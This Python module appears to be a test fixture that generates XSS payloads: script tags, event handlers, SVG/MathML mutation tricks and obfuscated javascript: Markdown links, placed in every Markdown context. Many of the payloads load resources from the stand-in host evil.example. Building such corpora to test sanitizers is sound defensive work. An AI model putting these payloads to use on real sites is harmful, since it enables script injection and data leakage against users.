"""Texts that would run a script, or make the page ask another host for something, if they were not shown as text.

Each script would set `window.hit`; each address is one of `EVIL`.
"""

from itertools import product
from typing import Final

HIT: Final = "window.hit=1"
EVIL: Final = "evil.example"
_WEB: Final = f"https://{EVIL}"

ELEMENTS: Final = (
    "<script>{hit}</script>",
    "<SCRIPT >{hit}</SCRIPT >",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<script/x>{hit}</script>",
    "<script src={web}/a.js></script>",
    "<script type=module>{hit}</script>",
    "<img src=x onerror={hit}>",
    '<img src=x onerror="{hit}"//',
    "<img/src=x/onerror={hit}>",
    "<IMG SRC=x OnErRoR={hit}>",
    '<img srcset="{web}/a.png 1x" src=x onerror={hit}>',
    "<image src=x onerror={hit}>",
    "<svg onload={hit}>",
    "<svg/onload={hit}//",
    "<svg><script>{hit}</script></svg>",
    '<svg><script href="data:,{hit}"/></svg>',
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{hit}"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror={hit}></foreignObject></svg>",
    "<svg><style><img src=x onerror={hit}></style></svg>",
    "<svg><image href={web}/i.svg /></svg>",
    "<svg><use href={web}/u.svg#x /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={hit}&gt;">',
    '<math><mi xlink:href="javascript:{hit}">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<body onload={hit}>",
    "<body background={web}/b.png>",
    '<iframe src="javascript:parent.{hit}"></iframe>',
    '<iframe srcdoc="<script>parent.{hit}</script>"></iframe>',
    "<iframe src={web}/></iframe>",
    '<object data="javascript:{hit}"></object>',
    "<embed src={web}/e>",
    "<video src={web}/v onerror={hit}></video>",
    "<audio src=x onerror={hit}></audio>",
    "<details open ontoggle={hit}>x</details>",
    "<input autofocus onfocus={hit}>",
    "<select autofocus onfocus={hit}></select>",
    "<button formaction=javascript:{hit}>x</button>",
    "<form action=javascript:{hit}><input type=submit></form>",
    "<marquee onstart={hit}>x</marquee>",
    "<p onmouseover={hit}>x</p>",
    '<div style="animation:x" onanimationstart={hit}></div>',
    "<style>@import url({web}/s.css);</style>",
    "<style>*{{background:url({web}/s.png)}}</style>",
    '<div style="background:url({web}/d.png)">x</div>',
    "<link rel=stylesheet href={web}/l.css>",
    "<link rel=prefetch href={web}/l>",
    "<link rel=preconnect href={web}/>",
    "<link rel=dns-prefetch href={web}/>",
    "<link rel=icon href={web}/f.ico>",
    "<base href={web}/>",
    '<meta http-equiv=refresh content="0;url=javascript:{hit}">',
    '<meta http-equiv=refresh content="0;url={web}/">',
    "<template shadowrootmode=open><img src=x onerror={hit}></template>",
    '<noscript><p title="</noscript><img src=x onerror={hit}>">',
    '<xmp><p title="</xmp><img src=x onerror={hit}>"></xmp>',
    '<title><img title="</title><img src=x onerror={hit}>"></title>',
    '<textarea><img title="</textarea><img src=x onerror={hit}>"></textarea>',
    "<!--><img src=x onerror={hit}>-->",
    "<![CDATA[<script>{hit}</script>]]>",
    "<x onclick={hit}>x</x>",
    "<k-code-block onclick={hit}>x</k-code-block>",
    '<div data-slot="0">x</div><img name=getElementById>',
    "<form id=x><input name=attributes><input name=parentNode></form>",
    '<a href="javascript:{hit}" autofocus onfocus={hit}>x</a>',
    "<a ping={web}/ href=https://a.example>x</a>",
)
LINKS: Final = (
    "[x](javascript:{hit})",
    "[x](JaVaScRiPt:{hit})",
    "[x](java\tscript:{hit})",
    "[x](java&#10;script:{hit})",
    "[x](&#106;avascript:{hit})",
    "[x](\u0001javascript:{hit})",
    "[x](<javascript:{hit}>)",
    "[x](javascript&colon;{hit})",
    "[x](data:text/html,<script>{hit}</script>)",
    "[x](vbscript:{hit})",
    "[x]: javascript:{hit}\n\n[x]",
    "<javascript:{hit}>",
    '[x](https://a.example "onmouseover={hit}")',
    "[x](https://a.example'\" onmouseover=\"{hit}')",
    "[<img src=x onerror={hit}>](https://a.example)",
    "![x](javascript:{hit})",
    "![x]({web}/i.png)",
    "![x](//evil.example/i.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSI+)",
    '![x" onerror="{hit}](x)',
    "![x][i]\n\n[i]: {web}/r.png",
    "<{web}/autolink.png>",
    "{web}/bare.png",
    "$$\\href{{javascript:{hit}}}{{x}}$$",
    "$\\includegraphics{{{web}/m.png}}$",
)
PLACES: Final = (
    "{}",
    "- a {}",
    "> {}",
    "# {}",
    "| {} |\n|---|\n| {} |",
    "**{}**",
    "[{}](https://a.example)",
    "![{}](https://a.example/i.png)",
    '"><b x="{}',
    "'\"--></title></textarea></style></script>{}",
    "```{}\n{}\n```",
    "`{}`",
    "$${}$$",
    "1. a\n\n   {}",
)


def filled(template: str) -> str:
    return template.format(hit=HIT, web=_WEB)


SHORT: Final = tuple(filled(text) for text in (*ELEMENTS, *LINKS))
"""Each once, for names and titles."""
ALL: Final = tuple(place.replace("{}", text) for place, text in product(PLACES, SHORT))
"""Each in every place that Markdown knows."""
EXFILTRATING: Final = tuple(text for text in ALL if EVIL in text)
